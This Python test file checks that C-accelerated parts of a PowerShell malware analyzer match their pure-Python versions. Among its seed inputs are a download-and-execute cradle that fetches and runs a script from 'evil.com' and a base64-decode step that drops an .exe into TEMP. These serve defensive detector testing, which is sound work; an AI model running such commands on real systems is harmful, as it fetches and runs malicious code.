"""The C paths of the PowerShell analyzer against the pure-Python ones they stand in for: the
tokenizer (the same tokens on real scripts, obfuscated ones, random garbage and every character
class edge), the deobfuscator's token tables, the feature counts and the tree ensemble."""

import importlib
import random
from pathlib import Path

import pytest

from threatscope.native import native
from threatscope.powershell.obfuscate import FAMILIES, obfuscate

tk = importlib.import_module("threatscope.powershell.tokenize")  # the package exports a function
C = native()
pytestmark = pytest.mark.skipif(C is None, reason="C extension not built")
BENIGN = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "powershell" / "benign"


def same(text: str) -> None:
    ref = tk._tokens_fast(text, None)
    got = C.ps_tokens(text, tk.Token, tk._NATIVE_KINDS, False, None, None)
    assert got == ref, text[:200]
    assert C.ps_tokens(text, tk.Token, tk._NATIVE_KINDS, True, None, None) == [
        t for t in ref if t.kind != "comment"]


@pytest.mark.skipif(not BENIGN.exists(), reason="no /work/shared/data/powershell")
def test_benign_scripts():
    for path in sorted(BENIGN.glob("*.ps1")):
        same(path.read_text(encoding="utf-8", errors="replace"))


def test_obfuscated_scripts():
    rng = random.Random(5)
    seeds = ["Write-Host 'hi'; $x = 1..10 | % { $_ * 2 }",
             "(New-Object Net.WebClient).DownloadString('http://evil.com/a.ps1') | iex",
             "$s = [Convert]::FromBase64String($b); [IO.File]::WriteAllBytes(\"$env:TEMP\\a.exe\", $s)",
             "function Get-Thing { param([string]$Name, [int[]]$N = @(1, 2)) \"x $Name\" }"]
    for _ in range(150):
        fams = rng.sample(FAMILIES, rng.randint(1, 3))
        text, _ = obfuscate(rng.choice(seeds), rng, families=fams, layers=rng.randint(1, 3))
        same(text)


ATOMS = list(" \t\f\v\xa0\ufeff\r\n`'\"\u2018\u2019\u201a\u201b\u201c\u201d\u201e$@#<>=+*/%!(){}[]"
             ";,|&:.?^_~-\u2013\u2014\u2015\\0123456789aAbBcdDeEfFgklLmMnprsStTxXz\u0130\u0131"
             "\u017f\u212a\u0663\x1c\x85\u2028\u3000\xe9") + [
    "0x", "1.5", "e+", "kb", "-f", "-join", "-bxor", "-isnot", "-cnotcontains", "[char]",
    "[a[b]]", "[ a ]", "$env:", "${", "@'\n", "'@", '@"\n', '"@', "<#", "#>", "`\n", "`\r\n",
    "2>&1", "::", "..", "$_", "$$", "$^", "-Command", "[int[]]", "[a.b[c,d]]  ]"]


def test_random_garbage():
    rng = random.Random(11)
    for _ in range(20_000):
        same("".join(rng.choice(ATOMS) for _ in range(rng.randint(0, 14))))


def test_every_character():
    # each code point where a rule looks at it (word, operator, variable, number, type), a few
    # hundred per text; every one up to U+3000, a sample of the rest
    cps = [cp for cp in [*range(0x3000), *range(0x3000, 0x110000, 31), 0x212A, 0xFEFF]
           if not 0xD800 <= cp < 0xE000]
    for k in range(0, len(cps), 256):
        same("\n".join(f"{ch} a{ch}b -{ch} -i{ch} ${ch} 1{ch} [{ch}] {ch}"
                        for ch in map(chr, cps[k:k + 256])))


def test_tokenize_uses_either_path(monkeypatch):
    src = "iex (\"a\"+'b') # c\n[char]0x41 -f $x"
    fast = tk.tokenize(src)
    monkeypatch.setenv("THREATSCOPE_NATIVE", "0")
    assert tk.tokenize(src) == fast
    assert tk.code_tokens(src) == [t for t in fast if t.kind != "comment"]


def test_token_tables():
    # the deobfuscator's bracket table and _fold's visit list: C and Python loops agree
    dob = importlib.import_module("threatscope.powershell.deobfuscate")
    rng = random.Random(3)
    texts = ["(a)[b]{c}$(d)@(e)@{f}", ")(][", "((((", "aB `x [Sy`stem.Text] (x) Word", ""]
    texts += ["".join(rng.choice(ATOMS) for _ in range(rng.randint(0, 40))) for _ in range(3000)]
    for text in texts:
        toks = tk._tokens_fast(text, None)
        n = len(toks)
        close = [n] * n
        stack: list[int] = []
        for j, t in enumerate(toks):
            if t.kind in dob._OPEN:
                stack.append(j)
            elif t.kind in dob._CLOSE and stack:
                close[stack.pop()] = j
        assert C.ps_brackets(toks, dob._BRACKET_ROLES) == close, text
        visit = [x for x, t in enumerate(toks) if t.kind == "lparen" or (
            t.kind in ("word", "type") and dob._FOLD_HINT.search(t.text))]
        assert C.ps_fold_visit(toks, dob._FOLD_ROLES) == visit, text


def test_feature_helpers():
    # features.py's counts and runs: C and Python agree (str.count semantics: non-overlapping)
    feats = importlib.import_module("threatscope.powershell.features")
    rng = random.Random(6)
    alphabet = list("aeiou-$[](). &*`\n\t xyzAB09+/=\u0130\u2019") + list(feats._NEEDLES)
    for _ in range(3000):
        s = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40)))
        assert C.ps_counts(s, feats._NEEDLES) == [s.count(x) for x in feats._NEEDLES]
        b = s.encode("ascii", "replace")
        for needles in (feats._NEEDLES, feats._PUNCT_NEEDLES, ("lU", "UlUl", " UUUU"), ("x  ", "a")):
            assert C.ps_counts(b, needles) == [b.count(x.encode()) for x in needles]
        for table, min_len in ((feats._IS_WORD, 3), (feats._IS_B64, 2), (feats._IS_TOKEN, 1),
                               (feats._IS_LINE, 1)):
            keep = bytes(c for c in range(256) if table[c])
            lens = [x for x in map(len, b.translate(feats._table({keep: b"x"})).split()) if x >= min_len]
            assert C.ps_runs(b, table, min_len) == (len(lens), sum(lens), max(lens, default=0))


def test_features_either_path(monkeypatch):
    feats = importlib.import_module("threatscope.powershell.features")
    rng = random.Random(12)
    texts = [obfuscate("Write-Host 'hi'; Get-ChildItem C:\\ | % { $_.Name }", rng,
                       families=[rng.choice(FAMILIES)])[0] for _ in range(60)]
    if BENIGN.exists():
        texts += [p.read_text(encoding="utf-8", errors="replace") for p in sorted(BENIGN.glob("*.ps1"))[:100]]
    fast = [feats.extract(t) for t in texts]
    monkeypatch.setenv("THREATSCOPE_NATIVE", "0")
    assert [feats.extract(t) for t in texts] == fast


def test_tree_sum():
    # the ensemble in C adds the same leaves in the same order: the same double
    from threatscope.powershell.classify import default_model

    m = default_model()
    thresholds = sorted({t for tree in m.trees for t in tree[1]})
    rng = random.Random(13)
    for _ in range(5000):
        row = [rng.choice([0.0, rng.choice(thresholds), rng.gauss(0, 3), float("nan")])
               for _ in m.names]
        assert C.gbdt_sum(row, *m._packed) == m._gbdt(row)
